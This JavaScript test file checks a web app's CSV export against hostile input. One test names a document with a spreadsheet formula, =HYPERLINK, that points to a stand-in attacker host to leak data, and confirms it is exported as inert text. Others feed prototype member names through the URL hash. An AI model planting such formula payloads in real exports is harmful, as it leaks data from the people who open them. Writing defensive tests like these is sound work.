// Exports under hostile input: a document named as a spreadsheet formula, and URL hash values
// naming Object.prototype members. Each export is downloaded as a user would.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { pasteDocument, startHarness } from './harness.mjs';

let harness;
before(async () => { harness = await startHarness(); });
after(async () => { await harness?.close(); });

async function downloaded(page, selector) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') };
}

test('the CSV of the matrix keeps a formula-like document name as text', async () => {
  const page = await harness.newPage();
  const name = '=HYPERLINK("http://evil.example/?leak","open me")';
  await pasteDocument(page, name, 'The harbour wall will be rebuilt next spring, the council said on Monday.\n');
  await page.click('#tab-overview');
  await page.waitForFunction(() => document.querySelectorAll('#matrix tbody tr').length === 6);
  const csv = await downloaded(page, '#export-csv');
  const quoted = `"'=HYPERLINK(""http://evil.example/?leak"",""open me"")"`;
  const lines = csv.text.split('\r\n');
  assert.ok(lines[0].includes(`,${quoted}`), lines[0]);
  assert.equal(lines.filter((line) => line.startsWith(`${quoted},`)).length, 1);
  assert.ok(!/(^|,)"?[=+@-]/.test(csv.text.replaceAll(/,-?\d/g, ',0')), 'no cell starts as a formula');
  assert.deepEqual(page.problems, []);
  await page.close();
});

for (const word of ['constructor', '__proto__', 'toString']) {
  test(`#s=${word} in the URL still exports the CSV of the rewrite score`, async () => {
    const page = await harness.newPage(`#v=overview&s=${word}`);
    await page.waitForSelector('#matrix');
    assert.equal(await page.$eval('#matrix-score', (select) => select.value), 'rewrite');
    const csv = await downloaded(page, '#export-csv');
    assert.equal(csv.name, 'concord-matrix-rewrite.csv');
    const rows = csv.text.trim().split('\r\n').slice(1).map((line) => line.split(',').slice(1).map(Number));
    assert.equal(rows.length, 5);
    assert.ok(rows.every((row) => row.length === 5 && row.every((x) => x >= 0 && x <= 1)), csv.text);
    assert.deepEqual(page.problems, []);
    await page.close();
  });
}
